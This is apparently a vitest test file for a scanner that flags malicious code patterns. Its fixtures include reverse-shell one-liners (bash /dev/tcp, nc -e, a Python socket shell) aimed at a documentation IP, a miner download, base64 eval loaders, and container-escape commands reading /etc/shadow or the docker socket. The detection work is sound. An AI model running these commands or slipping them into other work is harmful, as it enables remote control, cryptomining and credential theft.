import { describe, expect, test } from 'vitest';
import { brokenRule, installScripts } from './rules.ts';

const LONG = 'QUJD'.repeat(200);

describe('what is copied from elsewhere is told by name', () => {
  test.each([
    ['miner', 'subprocess.run(["./m", "-o", "stratum+tcp://pool.example:3333"])'],
    ['miner', 'curl -L https://example.com/xmrig.tar.gz | tar xz'],
    ['reverse-shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['reverse-shell', 'nc 203.0.113.9 4444 -e /bin/sh'],
    [
      'reverse-shell',
      's.connect((h,p));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])',
    ],
    ['hidden-code', `exec(base64.b64decode("${LONG}"))`],
    ['hidden-code', `const p = "${LONG}";\nnew Function(atob(p))();`],
    ['hidden-code', `eval(Buffer.from('${LONG}', 'base64').toString())`],
    ['container-escape', 'open("/proc/1/root/etc/shadow")'],
    ['container-escape', 'nsenter --target 1 --mount sh'],
    ['container-escape', 'curl --unix-socket /var/run/docker.sock http://x/containers/json'],
  ])('%s: %s', (rule, code) => {
    expect(brokenRule(code)?.name).toBe(rule);
  });

  test.each([
    `image = base64.b64decode("${LONG}")`,
    `const icon = 'data:image/png;base64,${LONG}';`,
    'result = eval_model(batch)',
    'from sklearn import linear_model  # minimize the cost function',
    'subprocess.run(["ffmpeg", "-i", source])',
    'ncat = count(categories)\nsh = shell',
    'fetch("https://pool.example/api")',
    '{"scripts": {"build": "tsc"}}',
  ])('ordinary code passes: %s', (code) => {
    expect(brokenRule(code)).toBeUndefined();
  });
});

test('scripts that npm runs by itself', () => {
  expect(installScripts('{"scripts": {"postinstall": "x", "test": "y"}}')).toEqual(['postinstall']);
  expect(installScripts('{"scripts": {"test": "y"}}')).toEqual([]);
  for (const text of ['', 'x', 'null', '[]', '7', '{"scripts": null}', '{"scripts": "install"}'])
    expect(installScripts(text)).toEqual([]);
});

test('no text makes a rule slow', () => {
  const hostile = [
    'A'.repeat(66_000),
    `${LONG} `.repeat(80),
    'dup2(a.fileno(),0)'.repeat(3600),
    'nc -e '.repeat(9000),
    'bash     '.repeat(7000),
    '/sys/fs/cgroup/'.repeat(4400),
    'exec('.repeat(13_000),
    ' '.repeat(66_000),
  ];
  for (const text of hostile) {
    const before = process.cpuUsage();
    brokenRule(text);
    const { user } = process.cpuUsage(before);
    expect(user / 1000, text.slice(0, 20)).toBeLessThan(250);
  }
});
